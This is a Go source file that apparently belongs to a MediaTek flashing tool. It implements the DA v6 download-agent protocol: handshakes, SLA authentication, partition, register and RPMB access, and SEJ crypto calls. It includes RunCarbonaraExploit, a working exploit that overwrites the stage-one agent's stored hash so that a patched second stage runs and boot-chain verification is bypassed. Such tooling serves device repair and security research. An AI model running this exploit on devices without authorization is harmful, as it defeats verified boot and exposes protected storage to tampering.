// Package xmlda implements the DA v6 XML-framed wire protocol: the
// post-upload CMD:START/runtime-parameter handshake, the interleaved
// CMD:PROGRESS-REPORT/CMD:END exchange discipline, partition operations,
// and the CMD:BOOT-TO-driven Carbonara runtime exploit.
//
// Frames share the XFlash header (magic, type, length), so this package
// reuses xflash's frame codec rather than duplicating it. The protocol's
// CMD:XXX tags are not namespaced well-formed XML (a device may emit
// unbalanced or duplicate-looking tags a conforming parser would reject),
// so response bodies are classified by substring and fields extracted
// with small string helpers instead of encoding/xml.
package xmlda

import (
	"bytes"
	"context"
	"encoding/hex"
	"fmt"
	"strconv"
	"strings"
	"time"

	"mtkda/internal/errs"
	"mtkda/internal/link"
	"mtkda/internal/xflash"
)

const (
	postUploadHandshakeTimeout = 30 * time.Second
	readTimeoutXmlDA           = 30 * time.Second
	resyncScanTimeout          = 2 * time.Second
	resyncWindowBytes          = 1024
)

// SLAOracle signs an SLA challenge; key material lives entirely outside
// this module.
type SLAOracle interface {
	Sign(challenge []byte) ([]byte, error)
}

// Client drives the DA v6 protocol over a borrowed Link.
type Client struct {
	Link *link.Link
	SLA  SLAOracle
}

func New(l *link.Link) *Client { return &Client{Link: l} }

func extractTag(text, tag string) (string, bool) {
	open, close := "<"+tag+">", "</"+tag+">"
	i := strings.Index(text, open)
	if i < 0 {
		return "", false
	}
	start := i + len(open)
	j := strings.Index(text[start:], close)
	if j < 0 {
		return "", false
	}
	return text[start : start+j], true
}

func parseHexOrDec(s string) (uint64, error) {
	s = strings.TrimSpace(s)
	if strings.HasPrefix(s, "0x") || strings.HasPrefix(s, "0X") {
		return strconv.ParseUint(s[2:], 16, 64)
	}
	return strconv.ParseUint(s, 10, 64)
}

// readFrame reads one frame, resyncing on a bad magic.
func (c *Client) readFrame(ctx context.Context, tx *link.Tx, timeout time.Duration) (xflash.FrameType, []byte, error) {
	hdr, err := tx.ReadExact(ctx, 12, timeout)
	if err != nil {
		return 0, nil, err
	}
	t, length, err := xflash.DecodeFrameHeader(hdr)
	if err != nil {
		return c.resync(ctx, tx, timeout)
	}
	body, err := tx.ReadExact(ctx, int(length), timeout)
	if err != nil {
		return 0, nil, err
	}
	return t, body, nil
}

// resync scans up to resyncWindowBytes for the frame magic and restarts
// header parsing from there.
func (c *Client) resync(ctx context.Context, tx *link.Tx, timeout time.Duration) (xflash.FrameType, []byte, error) {
	magic := xflash.FrameMagicBytes()
	window := make([]byte, 0, len(magic))
	for scanned := 0; scanned < resyncWindowBytes; scanned++ {
		b, err := tx.ReadExact(ctx, 1, resyncScanTimeout)
		if err != nil {
			return 0, nil, err
		}
		window = append(window, b[0])
		if len(window) > len(magic) {
			window = window[1:]
		}
		if bytes.Equal(window, magic) {
			rest, err := tx.ReadExact(ctx, 8, timeout)
			if err != nil {
				return 0, nil, err
			}
			t, length, derr := xflash.DecodeFrameHeader(append(append([]byte{}, magic...), rest...))
			if derr != nil {
				return 0, nil, derr
			}
			body, err := tx.ReadExact(ctx, int(length), timeout)
			if err != nil {
				return 0, nil, err
			}
			return t, body, nil
		}
	}
	return 0, nil, &errs.ProtocolError{Op: "xmlda_resync", Detail: "magic not found within scan window"}
}

func (c *Client) readFrameText(ctx context.Context, tx *link.Tx, timeout time.Duration) (string, error) {
	_, body, err := c.readFrame(ctx, tx, timeout)
	if err != nil {
		return "", err
	}
	return string(body), nil
}

func writeOK(tx *link.Tx) error {
	return tx.Write(xflash.EncodeFrame(xflash.ResponseFrame, []byte("OK"), false))
}

// exchange sends requestDoc as a ProtocolFlow frame, acking every
// interleaved CMD:START/CMD:PROGRESS-REPORT with "OK", and returns the
// text of the terminal CMD:END (or an in-band CMD:DOWNLOAD-FILE request
// the caller must itself drive, as BootTo does).
func (c *Client) exchange(ctx context.Context, tx *link.Tx, requestDoc string) (string, error) {
	if err := tx.Write(xflash.EncodeFrame(xflash.FlowFrame, []byte(requestDoc), false)); err != nil {
		return "", err
	}
	for {
		text, err := c.readFrameText(ctx, tx, readTimeoutXmlDA)
		if err != nil {
			return "", err
		}
		switch {
		case strings.Contains(text, "CMD:DOWNLOAD-FILE"):
			return text, nil
		case strings.Contains(text, "CMD:END"):
			if !strings.Contains(text, "OK") {
				return "", &errs.ProtocolError{Op: "xmlda_exchange", Detail: "CMD:END without OK"}
			}
			return text, nil
		default:
			if err := writeOK(tx); err != nil {
				return "", err
			}
		}
	}
}

func buildSetRuntimeParameterDoc() string {
	return "<CMD:SET-RUNTIME-PARAMETER>" +
		"<arg><checksum_level>NONE</checksum_level></arg>" +
		"<arg><da_log_level>ERROR</da_log_level></arg>" +
		"<arg><log_channel>UART</log_channel></arg>" +
		"<arg><battery_exist>AUTO-DETECT</battery_exist></arg>" +
		"<arg><system_os>LINUX</system_os></arg>" +
		"<arg><initialize_dram>YES</initialize_dram></arg>" +
		"</CMD:SET-RUNTIME-PARAMETER>"
}

// PostUploadHandshake waits up to 30s for CMD:START, acks it, then runs
// CMD:SET-RUNTIME-PARAMETER and requires an "OK" response.
func (c *Client) PostUploadHandshake(ctx context.Context) error {
	return c.Link.Transact(func(tx *link.Tx) error {
		deadline := time.Now().Add(postUploadHandshakeTimeout)
		for {
			remaining := time.Until(deadline)
			if remaining <= 0 {
				return &errs.ProtocolError{Op: "xmlda_handshake", Detail: "timed out waiting for CMD:START"}
			}
			text, err := c.readFrameText(ctx, tx, remaining)
			if err != nil {
				return err
			}
			if strings.Contains(text, "CMD:START") {
				break
			}
		}
		if err := writeOK(tx); err != nil {
			return err
		}

		resp, err := c.exchange(ctx, tx, buildSetRuntimeParameterDoc())
		if err != nil {
			return err
		}
		if !strings.Contains(resp, "OK") {
			return &errs.ProtocolError{Op: "xmlda_handshake", Detail: "runtime parameter setup not acknowledged"}
		}
		return nil
	})
}

// GetSLA queries whether SLA is enabled on the device.
func (c *Client) GetSLA(ctx context.Context) (bool, error) {
	var enabled bool
	err := c.Link.Transact(func(tx *link.Tx) error {
		resp, err := c.exchange(ctx, tx, "<CMD:GET-SLA></CMD:GET-SLA>")
		if err != nil {
			return err
		}
		enabled = strings.Contains(resp, "ENABLED") && !strings.Contains(resp, "DISABLED")
		return nil
	})
	return enabled, err
}

// performSLA runs CMD:SLA-CHALLENGE / CMD:SLA-AUTH against the external
// oracle. Must be called from inside an already-held Transact.
func (c *Client) performSLA(ctx context.Context, tx *link.Tx) error {
	if c.SLA == nil {
		return &errs.AuthRequiredError{Kind: errs.AuthSLA}
	}
	resp, err := c.exchange(ctx, tx, "<CMD:SLA-CHALLENGE></CMD:SLA-CHALLENGE>")
	if err != nil {
		return err
	}
	challengeHex, ok := extractTag(resp, "challenge")
	if !ok {
		return &errs.ProtocolError{Op: "sla", Detail: "missing challenge field"}
	}
	challenge, err := hex.DecodeString(strings.TrimSpace(challengeHex))
	if err != nil {
		return &errs.ProtocolError{Op: "sla", Detail: "challenge is not valid hex"}
	}
	sig, err := c.SLA.Sign(challenge)
	if err != nil {
		return fmt.Errorf("sla oracle: %w", err)
	}
	doc := fmt.Sprintf("<CMD:SLA-AUTH><signature>%s</signature></CMD:SLA-AUTH>", hex.EncodeToString(sig))
	resp, err = c.exchange(ctx, tx, doc)
	if err != nil {
		return err
	}
	if !strings.Contains(resp, "OK") {
		return &errs.ProtocolError{Op: "sla", Detail: "SLA-AUTH rejected"}
	}
	return nil
}

// BootTo drives one CMD:BOOT-TO round: send the target address, receive
// CMD:DOWNLOAD-FILE with a packet_length, ack with "OK@<size> " (the
// trailing space is required), stream payload as ProtocolRaw frames, then
// wait for the closing CMD:END. It is the primitive both the Carbonara
// runtime exploit and DA extension loading are built on.
func (c *Client) BootTo(ctx context.Context, addr uint32, payload []byte) error {
	return c.Link.Transact(func(tx *link.Tx) error {
		doc := fmt.Sprintf(
			"<CMD:BOOT-TO><arg><at_address>0x%08X</at_address><jmp_address>0x%08X</jmp_address></arg></CMD:BOOT-TO>",
			addr, addr)
		if err := tx.Write(xflash.EncodeFrame(xflash.FlowFrame, []byte(doc), false)); err != nil {
			return err
		}

		text, err := c.readFrameText(ctx, tx, readTimeoutXmlDA)
		if err != nil {
			return err
		}
		if !strings.Contains(text, "CMD:DOWNLOAD-FILE") {
			return &errs.ProtocolError{Op: "boot_to", Detail: "expected CMD:DOWNLOAD-FILE"}
		}
		plText, ok := extractTag(text, "packet_length")
		if !ok {
			return &errs.ProtocolError{Op: "boot_to", Detail: "missing packet_length"}
		}
		packetLength, err := parseHexOrDec(plText)
		if err != nil || packetLength == 0 {
			return &errs.ProtocolError{Op: "boot_to", Detail: "invalid packet_length"}
		}

		ack := fmt.Sprintf("OK@%d ", len(payload)) // trailing space is load-bearing
		if err := tx.Write(xflash.EncodeFrame(xflash.ResponseFrame, []byte(ack), false)); err != nil {
			return err
		}

		for off := 0; off < len(payload); off += int(packetLength) {
			end := off + int(packetLength)
			if end > len(payload) {
				end = len(payload)
			}
			if err := tx.Write(xflash.EncodeFrame(xflash.RawFrame, payload[off:end], false)); err != nil {
				return err
			}
			if _, _, err := c.readFrame(ctx, tx, readTimeoutXmlDA); err != nil {
				return err
			}
		}

		final, err := c.readFrameText(ctx, tx, readTimeoutXmlDA)
		if err != nil {
			return err
		}
		if !strings.Contains(final, "CMD:END") {
			return &errs.ProtocolError{Op: "boot_to", Detail: "expected CMD:END"}
		}
		return nil
	})
}

// RunCarbonaraExploit executes the runtime exploit's three steps: BOOT-TO
// the patched DA2 hash into DA1's embedded hash slot, BOOT-TO the patched
// DA2 payload itself, then satisfy SLA if the device asks for it.
func (c *Client) RunCarbonaraExploit(ctx context.Context, da1Addr uint32, hashOffset int, da2Hash [32]byte, da2Addr uint32, patchedDA2 []byte) error {
	if err := c.BootTo(ctx, da1Addr+uint32(hashOffset), da2Hash[:]); err != nil {
		return err
	}
	if err := c.BootTo(ctx, da2Addr, patchedDA2); err != nil {
		return err
	}

	enabled, err := c.GetSLA(ctx)
	if err != nil {
		return err
	}
	if !enabled {
		return nil
	}
	return c.Link.Transact(func(tx *link.Tx) error {
		return c.performSLA(ctx, tx)
	})
}

// ReadRegister reads one 32-bit SoC register through the DA.
func (c *Client) ReadRegister(ctx context.Context, addr uint32) (uint32, error) {
	var value uint64
	err := c.Link.Transact(func(tx *link.Tx) error {
		doc := fmt.Sprintf("<CMD:READ-REGISTER><arg><address>0x%08X</address></arg></CMD:READ-REGISTER>", addr)
		resp, err := c.exchange(ctx, tx, doc)
		if err != nil {
			return err
		}
		text, ok := extractTag(resp, "value")
		if !ok {
			return &errs.ProtocolError{Op: "read_reg", Detail: "missing value field"}
		}
		value, err = parseHexOrDec(text)
		return err
	})
	return uint32(value), err
}

// WriteRegister writes one 32-bit SoC register through the DA.
func (c *Client) WriteRegister(ctx context.Context, addr, value uint32) error {
	return c.Link.Transact(func(tx *link.Tx) error {
		doc := fmt.Sprintf(
			"<CMD:WRITE-REGISTER><arg><address>0x%08X</address><value>0x%08X</value></arg></CMD:WRITE-REGISTER>",
			addr, value)
		_, err := c.exchange(ctx, tx, doc)
		return err
	})
}

// ReadRPMB reads length bytes of the RPMB region starting at addr; the
// DA returns the data hex-encoded inside the CMD:END document.
func (c *Client) ReadRPMB(ctx context.Context, addr uint64, length uint32) ([]byte, error) {
	var out []byte
	err := c.Link.Transact(func(tx *link.Tx) error {
		doc := fmt.Sprintf(
			"<CMD:READ-RPMB><arg><start_addr>0x%X</start_addr><read_size>0x%X</read_size></arg></CMD:READ-RPMB>",
			addr, length)
		resp, err := c.exchange(ctx, tx, doc)
		if err != nil {
			return err
		}
		text, ok := extractTag(resp, "data")
		if !ok {
			return &errs.ProtocolError{Op: "read_rpmb", Detail: "missing data field"}
		}
		out, err = hex.DecodeString(strings.TrimSpace(text))
		return err
	})
	return out, err
}

// WriteRPMB writes data into the RPMB region at addr.
func (c *Client) WriteRPMB(ctx context.Context, addr uint64, data []byte) error {
	return c.Link.Transact(func(tx *link.Tx) error {
		doc := fmt.Sprintf(
			"<CMD:WRITE-RPMB><arg><start_addr>0x%X</start_addr><data>%s</data></arg></CMD:WRITE-RPMB>",
			addr, hex.EncodeToString(data))
		_, err := c.exchange(ctx, tx, doc)
		return err
	})
}

func (c *Client) sejOp(ctx context.Context, cmd, op string, data []byte) ([]byte, error) {
	var out []byte
	err := c.Link.Transact(func(tx *link.Tx) error {
		doc := fmt.Sprintf("<%s><arg><data>%s</data></arg></%s>", cmd, hex.EncodeToString(data), cmd)
		resp, err := c.exchange(ctx, tx, doc)
		if err != nil {
			return err
		}
		text, ok := extractTag(resp, "data")
		if !ok {
			return &errs.ProtocolError{Op: op, Detail: "missing data field"}
		}
		out, err = hex.DecodeString(strings.TrimSpace(text))
		return err
	})
	return out, err
}

// SejEncrypt runs data through the SoC's SEJ crypto engine.
func (c *Client) SejEncrypt(ctx context.Context, data []byte) ([]byte, error) {
	return c.sejOp(ctx, "CMD:SEJ-ENCRYPT", "sej_encrypt", data)
}

// SejDecrypt reverses SejEncrypt.
func (c *Client) SejDecrypt(ctx context.Context, data []byte) ([]byte, error) {
	return c.sejOp(ctx, "CMD:SEJ-DECRYPT", "sej_decrypt", data)
}

// ReadPartition mirrors XFlash's read semantics with XML-encoded
// parameters and ProtocolRaw data frames.
func (c *Client) ReadPartition(ctx context.Context, partitionName string, addr, size uint64) ([]byte, error) {
	var out []byte
	err := c.Link.Transact(func(tx *link.Tx) error {
		doc := fmt.Sprintf(
			"<CMD:READ-PARTITION><arg><partition_name>%s</partition_name><start_addr>0x%X</start_addr><read_size>0x%X</read_size></arg></CMD:READ-PARTITION>",
			partitionName, addr, size)
		if err := tx.Write(xflash.EncodeFrame(xflash.FlowFrame, []byte(doc), false)); err != nil {
			return err
		}

		text, err := c.readFrameText(ctx, tx, readTimeoutXmlDA)
		if err != nil {
			return err
		}
		if !strings.Contains(text, "OK") {
			return &errs.ProtocolError{Op: "xmlda_read", Detail: "read not accepted"}
		}
		if err := writeOK(tx); err != nil {
			return err
		}

		out = make([]byte, 0, size)
		for uint64(len(out)) < size {
			_, chunk, err := c.readFrame(ctx, tx, readTimeoutXmlDA)
			if err != nil {
				return err
			}
			out = append(out, chunk...)
			if err := writeOK(tx); err != nil {
				return err
			}
		}

		final, err := c.readFrameText(ctx, tx, readTimeoutXmlDA)
		if err != nil {
			return err
		}
		if !strings.Contains(final, "CMD:END") {
			return &errs.ProtocolError{Op: "xmlda_read", Detail: "expected CMD:END"}
		}
		return nil
	})
	if err != nil {
		return nil, err
	}
	return out, nil
}

// WritePartition mirrors XFlash's write semantics with XML-encoded
// parameters, streaming data as ProtocolRaw frames of at most
// packetLength bytes.
func (c *Client) WritePartition(ctx context.Context, partitionName string, addr uint64, data []byte, packetLength int) error {
	if packetLength <= 0 {
		packetLength = 0x1000
	}
	return c.Link.Transact(func(tx *link.Tx) error {
		doc := fmt.Sprintf(
			"<CMD:WRITE-PARTITION><arg><partition_name>%s</partition_name><start_addr>0x%X</start_addr><write_size>0x%X</write_size></arg></CMD:WRITE-PARTITION>",
			partitionName, addr, len(data))
		if err := tx.Write(xflash.EncodeFrame(xflash.FlowFrame, []byte(doc), false)); err != nil {
			return err
		}

		text, err := c.readFrameText(ctx, tx, readTimeoutXmlDA)
		if err != nil {
			return err
		}
		if !strings.Contains(text, "OK") {
			return &errs.ProtocolError{Op: "xmlda_write", Detail: "write not accepted"}
		}

		for off := 0; off < len(data); off += packetLength {
			end := off + packetLength
			if end > len(data) {
				end = len(data)
			}
			if err := tx.Write(xflash.EncodeFrame(xflash.RawFrame, data[off:end], false)); err != nil {
				return err
			}
			if _, err := c.readFrameText(ctx, tx, readTimeoutXmlDA); err != nil {
				return err
			}
		}

		final, err := c.readFrameText(ctx, tx, readTimeoutXmlDA)
		if err != nil {
			return err
		}
		if !strings.Contains(final, "CMD:END") || !strings.Contains(final, "OK") {
			return &errs.ProtocolError{Op: "xmlda_write", Detail: "write not finalized"}
		}
		return nil
	})
}
